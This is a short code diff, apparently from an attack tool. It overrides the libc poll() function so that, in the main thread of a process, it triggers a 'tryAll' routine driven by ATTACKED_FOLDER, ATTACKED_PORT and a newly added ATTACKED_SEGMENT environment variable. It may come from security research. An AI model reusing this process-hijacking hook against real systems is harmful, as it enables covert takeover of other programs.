@@ -29,7 +29,8 @@ extern "C" __attribute__((visibility("default"))) int poll(pollfd *descriptors, 
     const char *folder = std::getenv("ATTACKED_FOLDER");
     if (isTakenOver != 0 && getpid() == gettid() && folder) {
         isTakenOver = 0;
-        tryAll({folder, static_cast<uint16_t>(std::atoi(std::getenv("ATTACKED_PORT"))), STDERR_FILENO});
+        tryAll({folder, static_cast<uint16_t>(std::atoi(std::getenv("ATTACKED_PORT"))),
+                std::atoi(std::getenv("ATTACKED_SEGMENT")), STDERR_FILENO});
     }
     return real(descriptors, count, timeout);
 }
